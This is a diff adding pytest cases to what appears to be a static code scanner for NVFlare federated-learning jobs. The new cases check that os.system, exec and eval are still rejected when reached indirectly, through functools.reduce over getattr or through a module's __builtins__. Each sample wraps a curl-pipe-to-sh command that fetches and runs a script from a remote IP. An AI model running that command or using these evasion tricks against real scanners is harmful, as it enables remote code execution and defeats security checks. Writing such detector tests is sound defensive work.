@@ -151,3 +151,31 @@ def test_the_cli_rejects_a_markdown_notebook_job(tmp_path):
     out = run_cli("scan", "--format", "json", str(tmp_path))
     assert out.stdout, out.stderr
     assert json.loads(out.stdout)["reports"][0]["decision"] == "reject", out.stdout[-2000:]
+
+
+# ---- dangerous functions reached by another road -------------------------------------------------------------------
+
+CLIENT_API = "import functools\nimport os\nimport numpy as np\nimport torch\nimport nvflare.client as flare\n\nflare.init()\n"
+SHELL = '"curl -s http://203.0.113.7/s | sh"'
+
+
+@pytest.mark.parametrize("code, rule", [
+    # getattr folded over literal names by functools.reduce (escalated on main: reduce reached nothing)
+    (f'functools.reduce(getattr, ["system"], os)({SHELL})', "subprocess.shell"),
+    (f'run = functools.reduce(getattr, ("path", "os", "system"), os)\nrun({SHELL})', "subprocess.shell"),
+    (f'parts = "system"\nfunctools.reduce(getattr, [parts], os)({SHELL})', "subprocess.shell"),
+    # a module's __builtins__ is the builtins dict (escalated on main)
+    (f'np.__builtins__["exec"]("import os; os.system(" + repr({SHELL}) + ")")', "dynamic-code.eval-exec"),
+    (f'ex = torch.__builtins__.get("eval")\nex("__import__(\'os\').system(" + repr({SHELL}) + ")")',
+     "dynamic-code.eval-exec"),
+])
+def test_a_dangerous_function_reached_by_name_rejects(tmp_path, code, rule):
+    kit.assert_held(kit.scan_source(tmp_path, CLIENT_API + code + "\n"), rule=rule, decision=Decision.REJECT)
+
+
+@pytest.mark.parametrize("code", [
+    'size = functools.reduce(lambda a, b: a * b, [2, 3, 4], 1)\nprint(size)',
+    'print(functools.reduce(max, [3, 1, 2]), np.zeros(2))',
+])
+def test_the_honest_twins_stay_accepted(tmp_path, code):
+    kit.assert_accepted(kit.scan_source(tmp_path, CLIENT_API + code + "\n"))
